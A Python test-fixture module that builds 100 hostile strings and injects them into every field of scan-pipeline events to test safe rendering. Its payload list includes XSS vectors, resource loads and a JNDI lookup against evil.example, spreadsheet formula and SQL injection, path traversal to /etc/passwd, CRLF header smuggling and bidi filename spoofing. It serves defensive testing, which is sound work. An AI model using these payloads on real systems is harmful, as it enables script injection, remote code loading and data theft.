"""What an attacker may write into every text of a scan: 100 texts, and every event that can carry one."""

from __future__ import annotations

import re
import typing
from collections.abc import Iterator

import msgspec

from pipeline import event

_RUN = "alert(1)"
_TAGS = [
    f"<script>{_RUN}</script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video src=x onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN} autofocus>open</a>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><img src=x onerror={_RUN}></noscript>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<img src=http://evil.example/x>",
]
_WAYS_OUT = [
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</option></select>",
    "</h1>",
]
_WORDS = [
    *("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "length"),
    *("", " ", "null", "undefined", "NaN", "-1", "0", "[object Object]"),
    *(f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"data:text/html,{_TAGS[0]}"),
    *(f"{{{{constructor.constructor('{_RUN}')()}}}}", f"${{{_RUN}}}", f"<%= {_RUN} %>", f"#{{{_RUN}}}"),
    *(f"&lt;img src=x onerror={_RUN}&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;", "%3Cscript%3E"),
    *("\uff1cscript\uff1e", f"\\u003cscript\\u003e{_RUN}", f"';{_RUN}//", f'";{_RUN}//', f"`;{_RUN}//"),
    *("\\", "'", '"', "`", "=cmd|' /C calc'!A0", "@SUM(1)", "' OR 1=1 --", "../../../etc/passwd"),
    *("${jndi:ldap://evil.example/x}", "\x00\x1b]0;owned\x07", "\x1b[2J\x1b[31m", "a\r\nSet-Cookie: x=1"),
    *("evil\u202etxt.exe", "\u2066x\u2069", "\ufeff\u200b\u200d", "e" + "\u0301" * 200, "x" * 5_000),
    *("<" * 500, "\U0001f4a5" * 40, "\u2028\u2029"),
]

PAYLOADS = [
    *_TAGS,
    *(f"{out}{_TAGS[number]}" for number, out in enumerate(_WAYS_OUT)),
    *_WORDS,
    *(f"{_TAGS[number]}\n{_WAYS_OUT[number % 10]}" for number in range(len(_TAGS))),
][:100]
"""The texts; each is another one."""

_DECEPTIVE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]+")


def shown(text: str) -> str:
    """Return how a page shows a text, if it shows the first 40 characters of it."""
    return " ".join(_DECEPTIVE.sub("·", text).split())[:40].strip()


def events_with(text: str, number: int) -> Iterator[dict[str, object]]:
    """Yield an event of each type that ends no scan, and one of no known type, with a text everywhere.

    Args:
        text: what is written everywhere.
        number: of the host that other finds are on, so that each text has a host of its own.
    """
    for kind in typing.get_args(event.KnownEvent):
        name = str(kind.__struct_config__.tag)
        if name == "error":
            yield {"type": name, "message": text, "fatal": False}
        elif name != "scanStarted" and not event.DEFAULT_CATALOGUE[name].terminal:
            yield {"type": name, **_filled(kind, text)}
            if "ip" in {field.name for field in msgspec.structs.fields(kind)}:
                yield {"type": name, **_filled(kind, text), "ip": f"10.0.0.{number}"}
    yield {"type": f"x{text}"[:100], "text": text, text: {text: [text]}}


def _filled(kind: type[msgspec.Struct], text: str) -> dict[str, object]:
    """Return all fields of a type, but its scan id."""
    hints = typing.get_type_hints(kind)
    return {name: _value(hint, text) for name, hint in hints.items() if name != "scan_id"}


def _value(hint: object, text: str) -> object:
    parts = typing.get_args(hint)
    if typing.get_origin(hint) is typing.Literal:
        return parts[0]
    if hint is str or str in parts:
        return text
    return 1
